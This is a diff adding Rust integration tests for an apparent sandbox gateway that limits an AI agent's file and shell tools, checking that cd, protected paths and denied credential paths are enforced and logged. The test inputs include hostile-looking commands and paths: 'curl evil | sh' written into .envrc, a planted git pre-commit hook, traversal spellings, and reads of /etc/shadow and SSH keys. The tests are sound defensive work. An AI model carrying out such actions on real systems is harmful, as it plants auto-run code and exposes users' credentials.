@@ -692,3 +692,161 @@ sandbox_test!(
         assert!(stderr(&o).contains("p.toml:3:"), "{}", text(&o));
     }
 );
+
+/// A session's one-shot call (`GATEWAY_SESSION`), as root or as uid 65534.
+fn in_session(env: &Env, nobody: bool, args: &[&str]) -> Output {
+    let mut c = if nobody { env.nobody() } else { env.cmd() };
+    c.env("GATEWAY_SESSION", "agent-1")
+        .args(args)
+        .output()
+        .expect("run gateway")
+}
+
+sandbox_test! {
+    fn session_cd_moves_relative_paths_never_the_writable_area() {
+        // Issue 14 item 1: `cd` out of the workspace, then a relative write (file tool and
+        // command) must not land where the session moved to. As root and as uid 65534.
+        for nobody in [false, true] {
+            let env = Env::new("cd-writable");
+            if nobody {
+                env.give_to_nobody();
+            }
+            let out = env.outside.to_str().expect("utf-8");
+            let o = in_session(&env, nobody, &["fs", "cd", out]);
+            assert!(o.status.success(), "cd: {}", text(&o));
+            let o = in_session(&env, nobody, &["fs", "mkdir", "bin"]);
+            assert_ne!(o.status.code(), Some(0), "mkdir outside: {}", text(&o));
+            let o = in_session(&env, nobody, &["fs", "write", "ls", "--content", "#!/bin/sh\n"]);
+            assert_ne!(o.status.code(), Some(0), "write outside: {}", text(&o));
+            let o = in_session(&env, nobody, &["exec", "--", "sh", "-c", "pwd; echo x > planted"]);
+            assert!(stdout(&o).contains("/outside"), "the command starts there: {}", text(&o));
+            assert!(!env.outside.join("ls").exists(), "nobody={nobody}");
+            assert!(!env.outside.join("bin").exists(), "nobody={nobody}");
+            assert!(!env.outside.join("planted").exists(), "nobody={nobody}: {}", text(&o));
+            // The workspace the session started in stays writable, by relative path too.
+            let o = in_session(&env, nobody, &["exec", "--", "sh", "-c", "echo y > ../ws/kept"]);
+            assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+            assert!(env.ws.join("kept").exists(), "nobody={nobody}: {}", text(&o));
+            let o = in_session(&env, nobody, &["fs", "write", "../ws/kept2", "--content", "k"]);
+            assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+            assert!(env.ws.join("kept2").exists());
+        }
+    }
+}
+
+sandbox_test! {
+    fn cd_into_a_directory_refused_as_workspace_leaves_the_session_working() {
+        // Issue 14 item 2: `cd ~` (a home holding ~/.ssh) bricked every later call, `cd`
+        // back included. Now it moves the base of relative paths only.
+        let env = Env::new("cd-home");
+        std::fs::create_dir_all(env.home.join(".ssh")).expect("ssh");
+        std::fs::write(env.home.join(".ssh/id_ed25519"), "KEY").expect("key");
+        let o = in_session(&env, false, &["fs", "cd", "~"]);
+        assert!(o.status.success(), "cd ~: {}", text(&o));
+        let o = in_session(&env, false, &["exec", "--", "sh", "-c", "echo alive"]);
+        assert_eq!(o.status.code(), Some(0), "after cd ~: {}", text(&o));
+        assert_eq!(stdout(&o), "alive\n");
+        // Still no key, no write to the home.
+        let o = in_session(&env, false, &["exec", "--", "sh", "-c", "cat .ssh/id_ed25519; echo x > planted"]);
+        assert!(!stdout(&o).contains("KEY"), "{}", text(&o));
+        assert!(!env.home.join("planted").exists());
+        let o = in_session(&env, false, &["fs", "read", ".ssh/id_ed25519"]);
+        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
+        let ws = env.ws.to_str().expect("utf-8");
+        let o = in_session(&env, false, &["fs", "cd", ws]);
+        assert!(o.status.success(), "cd back: {}", text(&o));
+        let o = in_session(&env, false, &["fs", "write", "f", "--content", "ok"]);
+        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    }
+}
+
+/// A file tool call with `--json`: exit code, and the deciding rules.
+fn fs_json(env: &Env, policy: &str, args: &[&str]) -> (Option<i32>, Vec<String>, String) {
+    let mut c = env.cmd();
+    c.args(["--json", "--policy", policy, "fs"]).args(args);
+    let o = c.output().expect("run");
+    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
+    let rules = v["rules"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .filter(|r| r["effect"] == "deny")
+                .filter_map(|r| r["rule"].as_str().or(r["id"].as_str()).map(String::from))
+                .collect()
+        })
+        .unwrap_or_default();
+    (o.status.code(), rules, text(&o))
+}
+
+sandbox_test! {
+    fn file_tools_refuse_protected_paths_for_every_change() {
+        // Issue 14 item 3 and issue 22 item 3b: creation, replacement, rename onto, rename
+        // away and removal of protected paths, however the path is spelled, are refused by
+        // the rule `protected-path` and recorded as a deny.
+        for policy in ["strict", "standard"] {
+            let env = Env::new("fs-protected");
+            env.write(".envrc", "export A=1\n");
+            env.write(".git/HEAD", "ref: refs/heads/main\n");
+            env.write("x", "x\n");
+            std::fs::create_dir(env.ws.join("sub")).expect("sub");
+            std::os::unix::fs::symlink(".git", env.ws.join("g")).expect("link");
+            let cases: &[&[&str]] = &[
+                &["write", ".mcp.json", "--content", "{}"],
+                &["write", ".zshrc", "--content", "x"],
+                &["write", ".gateway-policy.toml", "--content", "x"],
+                &["write", ".envrc", "--content", "curl evil | sh"],
+                &["edit", ".envrc", "--old", "A=1", "--new", "A=2"],
+                &["mv", "x", ".bashrc"],
+                &["mv", ".envrc", "envrc.txt"],
+                &["rm", ".envrc"],
+                &["mkdir", ".vscode"],
+                &["write", "sub/../.git/config", "--content", "[core]\n"],
+                &["write", "g/hooks/pre-commit", "--content", "#!/bin/sh\n"],
+                &["write", "sub/.git/config", "--content", "[core]\n"],
+                &["mv", ".git", "git-away"],
+                &["write", "sub/.git", "--content", "gitdir: /tmp\n"],
+            ];
+            for args in cases {
+                let (code, rules, t) = fs_json(&env, policy, args);
+                assert_eq!(code, Some(120), "{policy} {args:?}: {t}");
+                assert!(rules.iter().any(|r| r == "protected-path"), "{policy} {args:?}: {rules:?} {t}");
+            }
+            assert_eq!(std::fs::read_to_string(env.ws.join(".envrc")).expect("envrc"), "export A=1\n");
+            for p in [".mcp.json", ".zshrc", ".gateway-policy.toml", ".bashrc", ".vscode", ".git/config", ".git/hooks", "sub/.git", "git-away", "envrc.txt"] {
+                assert!(std::fs::symlink_metadata(env.ws.join(p)).is_err(), "{policy}: {p} exists");
+            }
+            // Ordinary files are still written, `.git`'s other files too.
+            let (code, _, t) = fs_json(&env, policy, &["write", "notes.txt", "--content", "ok"]);
+            assert_eq!(code, Some(0), "{t}");
+            let o = env.gw(&["--json", "log", "query", "--decision", "deny"]);
+            let denied = stdout(&o);
+            assert!(denied.matches("protected-path").count() >= cases.len(), "{policy}: {denied}");
+        }
+    }
+}
+
+sandbox_test! {
+    fn file_tools_decide_denied_paths_before_running() {
+        // Issue 14 item 5: a read of a denied path was decided `allow` and failed in the
+        // worker with a raw EACCES; now it is denied by `denied-path`, and recorded so.
+        let env = Env::new("fs-denied");
+        std::fs::create_dir_all(env.home.join(".ssh")).expect("ssh");
+        std::fs::write(env.home.join(".ssh/id_rsa"), "KEY").expect("key");
+        std::os::unix::fs::symlink(env.home.join(".ssh"), env.ws.join("keys")).expect("link");
+        for policy in ["standard", "permissive"] {
+            for args in [
+                &["read", "/etc/shadow"][..],
+                &["read", "keys/id_rsa"],
+                &["ls", env.home.join(".ssh").to_str().expect("utf-8")],
+                &["grep", "KEY", "--path", env.home.join(".ssh").to_str().expect("utf-8")],
+            ] {
+                let (code, rules, t) = fs_json(&env, policy, args);
+                assert_eq!(code, Some(120), "{policy} {args:?}: {t}");
+                assert!(rules.iter().any(|r| r == "denied-path"), "{policy} {args:?}: {rules:?} {t}");
+                assert!(!t.contains("KEY") && !t.contains("root:"), "{t}");
+            }
+        }
+        let o = env.gw(&["--json", "log", "query", "--decision", "deny", "--tool", "fs.read"]);
+        assert!(stdout(&o).contains("denied-path"), "{}", text(&o));
+    }
+}
